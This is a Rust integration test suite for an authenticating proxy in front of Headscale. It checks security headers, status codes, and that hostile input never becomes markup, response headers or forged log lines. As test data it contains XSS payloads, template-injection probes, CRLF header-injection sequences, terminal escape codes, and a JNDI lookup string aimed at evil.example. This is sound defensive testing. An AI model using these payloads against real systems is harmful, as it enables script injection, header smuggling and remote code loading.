//! K: what comes out. No text of a stranger becomes markup, a header or a log line of its own, and
//! every answer of ours is guarded: not cached, not framed, not sniffed, no referrer.
//!
//! Each page alone, with hostile texts in each place, is shown in `headwarden::pages`; the form of a
//! log line in `headwarden::ops::log`.

use serde_json::{Map, Value, json};

use crate::faulty_provider::{Fault, Person as Account};
use crate::stage::{HTML, SAME_ORIGIN, SESSION, Stage, ask, request, send, session_line};
use crate::support::headscale_standin::Script;
use crate::support::house::{House, More};
use crate::support::person::Person;
use crate::support::raw::{Raw, Response};
use crate::support::tailnet::AUTH_ID;

const EMPTY: &str = "Content-Length: 0";
const NAVIGATION: [&str; 3] = [HTML, "Sec-Fetch-Mode: navigate", "Sec-Fetch-Dest: document"];

/// Fails unless an answer of ours is guarded.
fn assert_guarded(what: &str, answer: &Response) {
    let all = |name: &str| answer.head.fields.values(name);
    assert_eq!(all("cache-control"), ["no-store"], "{what}");
    assert_eq!(all("x-content-type-options"), ["nosniff"], "{what}");
    assert_eq!(all("x-frame-options"), ["DENY"], "{what}");
    let [policy] = all("content-security-policy")[..] else {
        panic!("{what}: {:?}", answer.head.fields)
    };
    let directives: Vec<&str> = policy.split("; ").collect();
    for directive in [
        "default-src 'none'",
        "frame-ancestors 'none'",
        "base-uri 'none'",
    ] {
        assert!(directives.contains(&directive), "{what}: {policy}");
    }
    assert!(!policy.contains("unsafe"), "{what}: {policy}");
    // Only the pages about devices have a script: one, by its hash.
    let scripts: Vec<&str> = directives
        .iter()
        .filter_map(|directive| directive.strip_prefix("script-src "))
        .collect();
    let by_hash = |sources: &&str| sources.starts_with("'sha256-") && !sources.contains(' ');
    assert!(
        scripts.is_empty()
            || (what.contains("/.headwarden/devices") && scripts.iter().all(by_hash)),
        "{what}: {policy}"
    );
    // A form's proof of where it came from needs a referrer, within this origin.
    let has_form = answer.text().contains("<form");
    let referrer = if has_form {
        "same-origin"
    } else {
        "no-referrer"
    };
    assert_eq!(all("referrer-policy"), [referrer], "{what}");
    assert_eq!(
        all("access-control-allow-origin"),
        Vec::<&str>::new(),
        "{what}"
    );
    assert_eq!(all("server"), Vec::<&str>::new(), "{what}");
    if !answer.body.is_empty() {
        let kind = answer.header("content-type").unwrap_or_default();
        let known = [
            "text/html; charset=utf-8",
            "text/plain; charset=utf-8",
            "application/json",
        ];
        // RFC 9457, where clients of Headscale's API look for it.
        let of_the_api = kind == "application/problem+json" && what.contains(" /api/");
        assert!(known.contains(&kind) || of_the_api, "{what}: {kind}");
    }
}

/// Asks and notes which statuses were seen.
struct Tour<'a> {
    house: &'a House,
    seen: Vec<(u16, String)>,
}

impl Tour<'_> {
    fn note(&mut self, what: &str, status: u16, answer: &Response) {
        assert_eq!(answer.status(), status, "{what}: {}", answer.text());
        assert_guarded(what, answer);
        self.seen.push((status, what.to_owned()));
    }

    fn ask(&mut self, status: u16, method: &str, target: &str, lines: &[&str]) -> Response {
        let answer = ask(self.house, method, target, lines);
        let what = format!("{method} {target:.60} {lines:?}");
        self.note(&what, status, &answer);
        answer
    }
}

#[expect(clippy::too_many_lines, reason = "a table")]
fn tour_without_a_session(tour: &mut Tour<'_>) {
    for target in [
        "/windows",
        "/.headwarden/sign-in",
        "/.headwarden/sign-in?switch=1",
        "/.headwarden/sessions",
        "/.headwarden/devices",
        "/.headwarden/devices/add",
        "/.headwarden/devices/people",
        "/.headwarden/devices/remove?id=1",
        "/swagger",
    ] {
        tour.ask(303, "GET", target, &NAVIGATION);
        tour.ask(401, "GET", target, &[]);
    }
    for (status, method, target, lines) in [
        (401, "POST", "/windows", &[EMPTY][..]),
        (401, "GET", "/api/v1/user", &[]),
        (401, "GET", "/api/v2/tailnet", &[]),
        (405, "POST", "/.headwarden/sign-in", &[EMPTY]),
        (405, "POST", "/.headwarden/step-up?for=/a", &[EMPTY]),
        (303, "GET", "/.headwarden/step-up?for=/a", &NAVIGATION),
        (405, "POST", "/oidc/callback?state=hw1.a", &[EMPTY]),
        (405, "GET", "/.headwarden/confirm-ssh", &[]),
        (405, "PUT", "/.headwarden/logout", &[EMPTY]),
        (405, "PUT", "/.headwarden/sessions", &[EMPTY]),
        (403, "POST", "/.headwarden/sessions", &[EMPTY]),
        (303, "POST", "/.headwarden/sessions", &[EMPTY, SAME_ORIGIN]),
        (405, "PUT", "/.headwarden/devices", &[EMPTY]),
        (403, "POST", "/.headwarden/devices", &[EMPTY]),
        (303, "POST", "/.headwarden/devices", &[EMPTY, SAME_ORIGIN]),
        (
            405,
            "POST",
            "/.headwarden/devices/add",
            &[EMPTY, SAME_ORIGIN],
        ),
        (405, "POST", "/.headwarden/signed-out", &[EMPTY]),
        (405, "POST", "/.headwarden/authorize", &[EMPTY]),
        (400, "GET", "/oidc/callback", &NAVIGATION),
        (400, "GET", "/oidc/callback?state=hw1.a&code=b", &NAVIGATION),
        (
            400,
            "GET",
            "/oidc/callback?state=foreign&code=b",
            &NAVIGATION,
        ),
        (400, "GET", "/.headwarden/authorize", &NAVIGATION),
        (
            400,
            "POST",
            "/.headwarden/confirm-ssh",
            &[SAME_ORIGIN, EMPTY],
        ),
        (403, "POST", "/.headwarden/confirm-register", &[EMPTY]),
        (403, "POST", "/.headwarden/logout", &[EMPTY, HTML]),
        (303, "POST", "/.headwarden/logout", &[EMPTY, SAME_ORIGIN]),
        (200, "GET", "/.headwarden/logout", &NAVIGATION),
        (200, "GET", "/.headwarden/signed-out", &NAVIGATION),
        (200, "GET", "/.headwarden/signed-out?state=x", &NAVIGATION),
        (405, "GET", "/.headwarden/backchannel-logout", &NAVIGATION),
        (400, "POST", "/.headwarden/backchannel-logout", &[EMPTY]),
        (405, "POST", "/.headwarden/frontchannel-logout", &[EMPTY]),
        (400, "GET", "/.headwarden/frontchannel-logout", &NAVIGATION),
        (400, "GET", "/.headwarden/frontchannel-logout", &[]),
        (404, "GET", "/.headwarden/nothing", &NAVIGATION),
        (404, "GET", "/.headwarden/nothing", &[]),
        (404, "GET", "/metrics", &[]),
        (404, "GET", "/debug/pprof", &NAVIGATION),
        (404, "POST", "/verify", &[EMPTY]),
        (404, "TRACE", "/windows", &[]),
        (
            204,
            "GET",
            "/generate_204",
            &["X-Tailscale-Challenge: ts_127.0.0.1"],
        ),
        (400, "GET", "/a/../b", &NAVIGATION),
        (400, "GET", "/a%2fb", &[]),
        (
            400,
            "GET",
            "/x",
            &["Content-Length: 1", "Transfer-Encoding: chunked"],
        ),
        (
            413,
            "POST",
            "/.headwarden/logout",
            &[SAME_ORIGIN, "Content-Length: 100000"],
        ),
    ] {
        if status == 413 {
            let mut bytes = request(tour.house, method, target, lines);
            bytes.extend_from_slice(&vec![b'a'; 100_000]);
            tour.note(
                "a form too large",
                413,
                &send(tour.house.plan.public, &bytes),
            );
            continue;
        }
        tour.ask(status, method, target, lines);
    }
}

/// What is refused before anybody knows what it wants.
fn tour_of_bad_heads(tour: &mut Tour<'_>) {
    let host = tour.house.plan.public;
    for (status, bytes) in [
        (
            421,
            format!("GET / HTTP/1.1\r\nHost: evil.example\r\n{HTML}\r\n\r\n"),
        ),
        (
            421,
            "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n".to_owned(),
        ),
        (400, "GET / HTTP/1.1\r\n\r\n".to_owned()),
        (400, "nonsense\r\n\r\n".to_owned()),
        (
            414,
            format!(
                "GET /{} HTTP/1.1\r\nHost: {host}\r\n\r\n",
                "a".repeat(20_000)
            ),
        ),
        (
            431,
            format!(
                "GET / HTTP/1.1\r\nHost: {host}\r\nX: {}\r\n\r\n",
                "a".repeat(60_000)
            ),
        ),
    ] {
        let answer = send(host, bytes.as_bytes());
        tour.note(&bytes[..bytes.len().min(40)], status, &answer);
    }
}

fn tour_with_sessions(stage: &Stage, tour: &mut Tour<'_>) {
    stage.faulty.provider.bend(Fault::AuthTimeAbsent);
    let undated = session_line(&stage.house, &stage.somebody(Account::Member));
    stage.faulty.provider.mend();
    let auth = format!("/auth/{AUTH_ID}");
    tour.ask(303, "GET", &auth, &[&NAVIGATION[..], &[&undated]].concat());
    tour.ask(401, "GET", &auth, &[&undated]);
    let mut person = stage.somebody(Account::Member);
    let line = session_line(&stage.house, &person);
    let with = |more: &[&'static str]| -> Vec<String> {
        more.iter()
            .map(|line| (*line).to_owned())
            .chain([line.clone()])
            .collect()
    };
    let page = with(&NAVIGATION);
    let page: Vec<&str> = page.iter().map(String::as_str).collect();
    tour.ask(403, "GET", &auth, &[&line]);
    let question = person.open(&stage.house.url(&auth));
    tour.note("the question", 200, &question.response);
    let answered = person.submit(&question, "", &[]);
    tour.note("its answer", 303, &answered.response);
    tour.ask(405, "POST", &auth, &[&line, EMPTY]);
    tour.ask(403, "GET", "/swagger", &page);
    tour.ask(403, "GET", "/swagger", &[&line]);
    tour.ask(403, "GET", "/api/v1/user", &[SAME_ORIGIN, &line]);
    tour.ask(200, "GET", "/.headwarden/logout", &page);
    tour.ask(200, "GET", "/.headwarden/sessions", &page);
    let form = [SAME_ORIGIN, EMPTY, &line];
    tour.ask(400, "POST", "/.headwarden/sessions", &form);
    tour.ask(403, "GET", "/.headwarden/sessions", &[&line]);
    // Nobody has a device here.
    tour.ask(200, "GET", "/.headwarden/devices", &page);
    tour.ask(403, "GET", "/.headwarden/devices", &[&line]);
    tour.ask(200, "GET", "/.headwarden/devices/add", &page);
    tour.ask(404, "GET", "/.headwarden/devices/people", &page);
    tour.ask(404, "GET", "/.headwarden/devices/remove?id=1", &page);
    tour.ask(400, "POST", "/.headwarden/devices/remove", &form);
    tour.ask(400, "GET", "/oidc/callback?state=foreign&code=b", &page);
    tour.ask(
        400,
        "POST",
        "/.headwarden/confirm-ssh",
        &[SAME_ORIGIN, EMPTY, &line],
    );
    tour.ask(405, "GET", &format!("/register/confirm/{AUTH_ID}"), &page);
    let cross = ["Sec-Fetch-Site: cross-site", EMPTY, &line];
    tour.ask(403, "POST", &format!("/register/confirm/{AUTH_ID}"), &cross);
    // Upstreams that fail, and a link that is gone.
    for (script, status) in [
        (Script::Bytes(b"nonsense\r\n\r\n".to_vec()), 502),
        (
            Script::Bytes(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\n\r\n".to_vec()),
            502,
        ),
    ] {
        stage.headscale.script("/windows", script);
        tour.ask(status, "GET", "/windows", &page);
    }
    let gone = b"HTTP/1.1 410 Gone\r\nContent-Length: 0\r\n\r\n".to_vec();
    stage
        .headscale
        .script(&format!("/register/{AUTH_ID}"), Script::Bytes(gone));
    tour.ask(410, "GET", &format!("/register/{AUTH_ID}"), &page);
}

fn tour_of_failed_sign_ins(stage: &Stage, tour: &mut Tour<'_>) {
    for (fault, status) in [(Fault::NonceWrong, 502), (Fault::TokenIsDown, 503)] {
        stage.faulty.provider.bend(fault);
        let page = Person::new().open(&stage.house.url("/windows"));
        tour.note("a sign-in that fails", status, &page.response);
    }
    stage.faulty.provider.mend();
    for (error, status) in [("access_denied", 403), ("server_error", 503), ("x", 502)] {
        stage
            .faulty
            .provider
            .set(|knobs| knobs.authorize_error = Some(error.to_owned()));
        let page = Person::new().open(&stage.house.url("/windows"));
        tour.note(error, status, &page.response);
    }
    stage
        .faulty
        .provider
        .set(|knobs| knobs.authorize_error = None);
    stage.is_at_the_provider(Account::Outsider);
    let mut outsider = Person::new();
    let page = outsider.open(&stage.house.url("/windows"));
    tour.note("a denial", 403, &page.response);
    stage.is_at_the_provider(Account::Member);
    let mut person = Person::new();
    let (answered, callback) = stage.callback_for(&mut person, "/windows");
    let landed = person.step(answered);
    tour.note("a sign-in", 303, &landed.response);
    let again = person.get(callback.as_str());
    tour.note("the same again", 400, &again.response);
}

fn tour_of_limits(tour: &mut Tour<'_>) {
    let bearer = "Authorization: Bearer x";
    let upgrade = ["Connection: Upgrade", "Upgrade: DERP"];
    for (target, lines) in [
        ("/api/v1/user", &[bearer][..]),
        ("/api/v1/user", &[bearer, HTML]),
        ("/key?v=140", &[]),
        ("/windows", &NAVIGATION),
        ("/derp", &upgrade),
    ] {
        // Whatever the limit is.
        let last = (0..2000).find_map(|_| {
            let mut raw = Raw::connect(tour.house.plan.public).expect("a connection");
            let answer = raw.exchange(&request(tour.house, "GET", target, lines));
            answer.ok().filter(|answer| answer.status() == 429)
        });
        let last = last.unwrap_or_else(|| panic!("{target} has no limit"));
        assert!(last.header("retry-after").is_some(), "{target}");
        tour.note(&format!("too many of {target}"), 429, &last);
    }
}

#[test]
fn every_answer_of_ours_is_guarded() {
    let stage = Stage::start_with(|_| More {
        headscale: "  api_key: hskey-api-standin\n",
        top: "limits: { open_requests_per_minute: 50, api_requests_per_minute: 50, sign_ins_per_minute: 150, tunnels_per_minute: 3 }\n",
        ..More::default()
    });
    let mut tour = Tour {
        house: &stage.house,
        seen: Vec::new(),
    };
    tour_without_a_session(&mut tour);
    tour_of_bad_heads(&mut tour);
    tour_with_sessions(&stage, &mut tour);
    tour_of_failed_sign_ins(&stage, &mut tour);
    tour_of_limits(&mut tour);
    let mut statuses: Vec<u16> = tour.seen.iter().map(|(status, _)| *status).collect();
    statuses.sort_unstable();
    statuses.dedup();
    assert_eq!(
        statuses,
        [
            200, 204, 303, 400, 401, 403, 404, 405, 410, 413, 414, 421, 429, 431, 502, 503
        ]
    );
    assert!(tour.seen.len() > 70, "{}", tour.seen.len());
    // The operator's listener and Headscale's show JSON and metrics to programs.
    let (admin, issuer) = (stage.house.plan.admin, stage.house.plan.issuer);
    for (to, path) in [
        (admin, "/metrics"),
        (admin, "/readyz"),
        (admin, "/healthz"),
        (admin, "/nothing"),
        (issuer, "/.well-known/openid-configuration"),
        (issuer, "/nothing"),
    ] {
        let answer = send(
            to,
            format!("GET {path} HTTP/1.1\r\nHost: {to}\r\n\r\n").as_bytes(),
        );
        assert_eq!(answer.header("cache-control"), Some("no-store"), "{path}");
        assert_eq!(
            answer.header("x-content-type-options"),
            Some("nosniff"),
            "{path}"
        );
    }
}

#[test]
fn what_is_sent_away_from_plaintext_is_guarded_too() {
    let stage = Stage::start();
    let text = std::fs::read_to_string(stage.house.plan.files.join("config.yaml"));
    let text = text.expect("a file");
    let house = House::start(|plan| {
        let text = text
            .replace(
                &stage.house.plan.public.to_string(),
                &plan.public.to_string(),
            )
            .replace(&stage.house.plan.admin.to_string(), &plan.admin.to_string())
            .replace(
                &stage.house.plan.issuer.to_string(),
                &plan.issuer.to_string(),
            )
            .replace(
                &stage.house.plan.files.display().to_string(),
                &plan.files.display().to_string(),
            );
        let origin = plan.origin();
        // Something in front would have to terminate TLS, and nobody is asked.
        text.replace(&origin, "https://headscale.company") + "trusted_proxies: [192.0.2.1]\n"
    });
    let answer = ask(&house, "GET", "/windows?a=b", &NAVIGATION);
    assert_eq!(
        (answer.status(), answer.header("location")),
        (308, Some("https://headscale.company/windows?a=b"))
    );
    assert_guarded("308", &answer);
    let answer = ask(&house, "POST", "/windows", &[EMPTY]);
    assert_eq!((answer.status(), answer.header("location")), (403, None));
    assert_guarded("403", &answer);
}

/// Texts that want to be more than text.
const HOSTILE: [&str; 9] = [
    "cnry</pre><script>alert(1)</script>",
    "cnry\"><img src=x onerror=alert(1)>",
    "cnry' onmouseover='alert(1)",
    "cnry</title></style><svg/onload=alert(1)>",
    "cnry{{7*7}}${7*7}<%=7*7%>",
    "cnry<!--",
    "cnry&lt;script&gt;<a href=javascript:alert(1)>",
    "cnry\u{202e}nimda\u{2066}\u{200b}",
    "cnry]]><![CDATA[<script>",
];

/// Fails if a page shows one of them as anything but text.
fn assert_inert(what: &str, answer: &Response) {
    let text = answer.text();
    let is_html = answer.header("content-type") == Some("text/html; charset=utf-8");
    for (at, _) in text.match_indices("cnry") {
        let shown: String = text[at + 4..].chars().take(12).collect();
        let markup = if is_html {
            ['<', '>', '"', '\'']
        } else {
            ['\0'; 4]
        };
        assert!(!shown.starts_with(markup), "{what}: {shown}");
    }
    for bad in [
        "<script",
        "<img",
        "<svg/",
        "onerror=alert(1)>",
        "<!--",
        "49",
        "<![CDATA",
    ] {
        let found = is_html && text.contains(bad) && bad != "49";
        assert!(!found, "{what}: {bad} in {text}");
    }
    let odd = |c: char| matches!(c, '\u{202e}' | '\u{2066}' | '\u{200b}');
    assert!(!is_html || !text.contains(odd), "{what}: {text}");
    for (name, value) in &answer.head.fields.0 {
        let known = ["location", "set-cookie"].contains(&name.to_ascii_lowercase().as_str());
        assert!(known || !value.contains("cnry"), "{what}: {name}: {value}");
    }
}

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

#[test]
fn no_text_of_a_request_becomes_markup_or_a_field() {
    let stage = Stage::start();
    let person = stage.somebody(Account::Member);
    let line = session_line(&stage.house, &person);
    for text in HOSTILE {
        let coded = encoded(text);
        let plain: String = text.chars().filter(char::is_ascii).collect();
        for target in [
            format!("/.headwarden/{coded}"),
            format!("/debug/{coded}?{coded}={coded}"),
            format!("/oidc/callback?error={coded}&error_description={coded}&error_uri={coded}"),
            format!("/oidc/callback?error={coded}&error_description={coded}&state={coded}"),
            format!("/oidc/callback?error=x&error_description={coded}&state=hw1.{coded}"),
            format!("/oidc/callback?code={coded}&state=hw1.{coded}&iss={coded}"),
            format!("/.headwarden/authorize?client_id={coded}&redirect_uri={coded}&state={coded}"),
            format!("/.headwarden/logout?next={coded}"),
            format!("/.headwarden/signed-out?state={coded}"),
            format!("/.headwarden/sign-in?switch={coded}&rd={coded}"),
            format!("/windows?{coded}"),
        ] {
            let referrer = format!("Referer: https://evil.example/?{plain}");
            let agent = format!("User-Agent: {plain}");
            let forwarded = format!("X-Forwarded-Host: {plain}");
            let hostile = [
                referrer.as_str(),
                &agent,
                &forwarded,
                "X-Forwarded-Prefix: /cnry<",
            ];
            let session = if target.starts_with("/windows") {
                None
            } else {
                Some(line.as_str())
            };
            for lines in [&NAVIGATION[..], &["Accept: */*"]] {
                let mut all = [lines, &hostile].concat();
                all.extend(session);
                let answer = ask(&stage.house, "GET", &target, &all);
                assert_inert(&target, &answer);
            }
        }
        let host = format!("GET / HTTP/1.1\r\nHost: {plain}\r\n{HTML}\r\n\r\n");
        let answer = send(stage.house.plan.public, host.as_bytes());
        assert!(matches!(answer.status(), 400 | 421), "{host}");
        assert_inert(&host, &answer);
        let body = format!("id={coded}&token={coded}");
        let length = format!("Content-Length: {}", body.len());
        let mut form = request(
            &stage.house,
            "POST",
            "/.headwarden/confirm-ssh",
            &[SAME_ORIGIN, HTML, &line, &length],
        );
        form.extend_from_slice(body.as_bytes());
        assert_inert("a form", &send(stage.house.plan.public, &form));
    }
}

#[test]
fn no_claim_of_a_person_becomes_markup() {
    let stage = Stage::start();
    let long = "cnry<b>".repeat(10_000);
    for text in HOSTILE.into_iter().chain([long.as_str()]) {
        let mut extra = Map::new();
        for name in [
            "name",
            "preferred_username",
            "nickname",
            "email",
            "given_name",
        ] {
            extra.insert(name.to_owned(), json!(text));
        }
        extra.insert("email_verified".to_owned(), json!(true));
        stage
            .faulty
            .provider
            .set(|knobs| knobs.extra_claims.clone_from(&extra));
        let mut person = Person::new();
        let landed = person.open(&stage.house.url("/windows"));
        assert_eq!(landed.status(), 200, "{text:.60}: {}", landed.text());
        for path in [
            "/.headwarden/logout",
            &format!("/auth/{AUTH_ID}"),
            &format!("/register/{AUTH_ID}"),
        ] {
            let page = person.open(&stage.house.url(path));
            assert_inert(path, &page.response);
            let shows = page.text().contains("cnry");
            assert!(
                shows || path.starts_with("/register"),
                "{path} does not name the person"
            );
            assert!(
                page.response.body.len() < 32 * 1024,
                "{path}: {}",
                page.response.body.len()
            );
        }
        extra.insert("groups".to_owned(), json!([text]));
        stage
            .faulty
            .provider
            .set(|knobs| knobs.extra_claims = extra);
        let denied = Person::new().open(&stage.house.url("/windows"));
        assert_eq!(denied.status(), 403, "{}", denied.text());
        assert_inert("a denial", &denied.response);
        assert!(denied.text().contains("cnry") && denied.response.body.len() < 32 * 1024);
    }
}

#[test]
fn no_line_break_of_a_request_becomes_a_field_of_an_answer() {
    let stage = Stage::start();
    let host = stage.house.plan.public;
    let person = stage.somebody(Account::Member);
    let line = session_line(&stage.house, &person);
    for break_ in [
        "%0d%0a",
        "%0a",
        "%0d",
        "%E5%98%8A%E5%98%8D",
        "%u000a",
        "%250d%250a",
        "%c0%8a",
    ] {
        let injected = format!("{break_}X-Injected:%20yes{break_}Set-Cookie:%20a=b");
        for target in [
            format!("/windows{injected}"),
            format!("/windows?x={injected}"),
            format!("/.headwarden/sign-in?rd=/{injected}"),
            format!("/oidc/callback?state=hw1.{injected}&code={injected}"),
            format!("/oidc/callback?state={injected}&code={injected}"),
            format!("/.headwarden/authorize?state={injected}"),
            format!("/register/{injected}"),
        ] {
            for lines in [&NAVIGATION[..], &[HTML, &line]] {
                let answer = ask(&stage.house, "GET", &target, lines);
                assert_eq!(answer.header("x-injected"), None, "{target}");
                let set = answer.head.fields.values("set-cookie");
                assert!(
                    set.iter().all(|set| !set.starts_with("a=")),
                    "{target}: {set:?}"
                );
                assert!(
                    answer
                        .head
                        .raw
                        .windows(2)
                        .filter(|two| two[1] == b'\n')
                        .all(|two| two[0] == b'\r')
                );
            }
        }
        let challenge = format!("X-Tailscale-Challenge: a{break_}X-Injected: yes");
        let answer = ask(&stage.house, "GET", "/generate_204", &[&challenge]);
        assert_eq!(answer.header("x-tailscale-response"), None, "{break_}");
    }
    for raw in ["\r", "\n", "\0", "\r\r\n", "\x0b", "\x0c"] {
        for (before, after) in [
            ("GET /wind", "ows HTTP/1.1\r\nHost: "),
            ("GET /windows HTTP/1.1\r\nX-A: b", "c\r\nHost: "),
        ] {
            let bytes = format!("{before}{raw}{after}{host}\r\n{line}\r\n\r\n");
            let answer = send(host, bytes.as_bytes());
            assert_eq!(answer.status(), 400, "{bytes:?}");
        }
    }
    let seen = stage.headscale.requests();
    assert!(
        seen.iter()
            .all(|seen| seen.fields.value("x-injected").is_none())
    );
}

/// Texts that want to be lines of a log, or to move the cursor of who reads it.
const FORGED: [&str; 9] = [
    "x\r\n2026-01-01T00:00:00.000000Z ERROR headwarden: forged",
    "x\n{\"level\":\"ERROR\",\"message\":\"forged\"}",
    "\",\"level\":\"ERROR\",\"message\":\"forged\",\"x\":\"",
    "\u{1b}[2J\u{1b}]0;forged\u{7}\u{1b}[31m",
    "\u{9b}31mforged\u{9d}0;t\u{9c}\u{7f}\u{8}\u{8}",
    "\u{202e}degrof\u{2066}\u{2028}forged\u{2029}\u{feff}",
    "%s%n%x%p${jndi:ldap://evil.example/a}#{7*7}",
    "\u{0}forged\u{b}\u{c}\t",
    "x status=200 door=\"own\" client=10.9.9.9 y=\"",
];

/// A line without what stands in quotes.
fn unquoted(line: &str) -> String {
    let (mut rest, mut quoted, mut escaped) = (String::new(), false, false);
    for c in line.chars() {
        if c == '"' && !escaped {
            quoted = !quoted;
        } else if !quoted {
            rest.push(c);
        }
        escaped = c == '\\' && !escaped;
    }
    rest
}

/// Whether a character may stand in a log line: it draws something and stays where it is.
fn is_harmless(c: char) -> bool {
    !c.is_control()
        && !matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}

fn forge_everywhere(stage: &mut Stage) {
    // As claims: what is said of people who sign in, are refused, or have a name that is none.
    stage.faulty.provider.bend(Fault::UserinfoWithoutSub);
    let endless = "A".repeat(200_000);
    for (at, text) in FORGED.into_iter().chain([endless.as_str()]).enumerate() {
        for groups in [json!(["headscale"]), json!([text, text])] {
            let extra: Map<String, Value> = [
                ("sub", json!(format!("{at}{text}"))),
                ("groups", groups),
                ("email", json!(format!("forged@{text}"))),
                ("preferred_username", json!(text)),
                ("name", json!(text)),
            ]
            .map(|(name, value)| (name.to_owned(), value))
            .into_iter()
            .collect();
            stage
                .faulty
                .provider
                .set(|knobs| knobs.extra_claims = extra);
            let mut person = Person::new();
            person.open(&stage.house.url("/windows"));
            person.open(&stage.house.url(&format!("/register/{AUTH_ID}")));
        }
        // As what a request says: its target, its method, a foreign issuer, a host.
        let coded = encoded(text.get(..200).unwrap_or(text));
        let begun = ask(&stage.house, "GET", "/windows", &NAVIGATION);
        let location =
            url::Url::parse(begun.header("location").expect("a redirect")).expect("a URL");
        let state = location
            .query_pairs()
            .find(|(name, _)| name == "state")
            .expect("a state")
            .1;
        let kept = begun.header("set-cookie").unwrap_or_default();
        let kept = format!("Cookie: {}", kept.split(';').next().unwrap_or_default());
        ask(
            &stage.house,
            "GET",
            &format!("/oidc/callback?state={state}&iss={coded}&code=a"),
            &[HTML, &kept],
        );
        ask(
            &stage.house,
            "GET",
            &format!("/.headwarden/authorize?client_id=headscale&redirect_uri={coded}"),
            &[HTML],
        );
        ask(&stage.house, "GET", &format!("/x{coded}"), &[]);
        ask(
            &stage.house,
            "GET",
            &format!("/x?{coded}"),
            &[&format!(
                "User-Agent: {}",
                text.replace(['\r', '\n', '\0'], "")
            )],
        );
    }
    stage.faulty.provider.mend();
    for method in ["%s%n", "${JNDI}", "X'|~`", "GET^[2J", &"M".repeat(200)] {
        ask(&stage.house, method, "/windows", &[]);
    }
    // As what the provider says when it refuses.
    for error in ["x%0AERROR%20forged", "%1B%5B2J"] {
        stage
            .faulty
            .provider
            .set(|knobs| knobs.authorize_error = Some(error.to_owned()));
        Person::new().open(&stage.house.url("/windows"));
    }
    stage.house.signal("TERM");
    stage.house.wait();
}

fn start_logging(format: &str) -> Stage {
    let top = format!("log: {{ format: {format}, level: trace }}\n");
    Stage::start_with(|_| More {
        top: Box::leak(top.into_boxed_str()),
        ..More::default()
    })
}

/// Each line of a log that was forged at, and its beginning to show; bounded, and without a character
/// that could move anything.
fn plain_lines(log: &str) -> Vec<(&str, String)> {
    assert!(
        log.contains("forged") && log.contains("jndi"),
        "nothing was forged"
    );
    let checked = |line| {
        let shown: String = str::chars(line).take(300).collect();
        assert!(line.len() < 17 * 1024, "{} bytes: {shown}", line.len());
        let odd: Vec<char> = line.chars().filter(|c| !is_harmless(*c)).collect();
        assert_eq!(odd, Vec::<char>::new(), "{shown}");
        (line, shown)
    };
    log.lines().map(checked).collect()
}

#[test]
fn no_text_of_a_stranger_is_a_log_line_of_its_own_for_people() {
    let mut stage = start_logging("human");
    forge_everywhere(&mut stage);
    for (line, shown) in plain_lines(&stage.house.log()) {
        assert!(!unquoted(line).contains("client=10.9.9.9"), "{shown}");
        let time = line.as_bytes();
        let is_event = line.len() > 30 && time[4] == b'-' && time[10] == b'T' && time[26] == b'Z';
        assert!(is_event && !line.starts_with("2026-01-01"), "{shown}");
    }
}

#[test]
fn no_text_of_a_stranger_is_a_log_line_or_a_key_of_its_own_for_machines() {
    let mut stage = start_logging("json");
    forge_everywhere(&mut stage);
    for (line, shown) in plain_lines(&stage.house.log()) {
        let event: Map<String, Value> = serde_json::from_str(line).expect("one object a line");
        assert!(
            event["message"] != "forged" && event["level"] != "ERROR",
            "{shown}"
        );
        assert!(
            event["target"]
                .as_str()
                .expect("a target")
                .starts_with("headwarden"),
            "{shown}"
        );
        for once in ["\"level\":", "\"message\":", "\"timestamp\":"] {
            assert_eq!(line.matches(once).count(), 1, "{shown}");
        }
    }
}

#[test]
fn a_post_is_answered_with_a_303_and_its_body_goes_nowhere_else() {
    let stage = Stage::start();
    let mut person = stage.somebody(Account::Member);
    let question = person.open(&stage.house.url(&format!("/auth/{AUTH_ID}")));
    let confirmed = person.submit(&question, "", &[]);
    let asked = person.open(&stage.house.url("/.headwarden/logout"));
    let out = person.submit(&asked, "", &[]);
    for answer in [&confirmed, &out] {
        assert_eq!(answer.status(), 303, "{}", answer.url);
        assert!(answer.response.body.is_empty());
    }
    // Without a session a form is not sent on to the provider, whoever asks.
    for lines in [&NAVIGATION[..], &[], &[HTML, "Sec-Fetch-Site: cross-site"]] {
        for method in ["POST", "PUT", "PATCH", "DELETE"] {
            let mut bytes = request(
                &stage.house,
                method,
                "/windows",
                &[lines, &["Content-Length: 8"]].concat(),
            );
            bytes.extend_from_slice(b"password");
            let answer = send(stage.house.plan.public, &bytes);
            assert_eq!(
                (answer.status(), answer.header("location")),
                (401, None),
                "{method}"
            );
        }
    }
    let dead = format!("Cookie: {SESSION}={}", "A".repeat(43));
    let answer = ask(&stage.house, "POST", "/windows", &[&dead, EMPTY, HTML]);
    assert_eq!((answer.status(), answer.header("location")), (401, None));
}
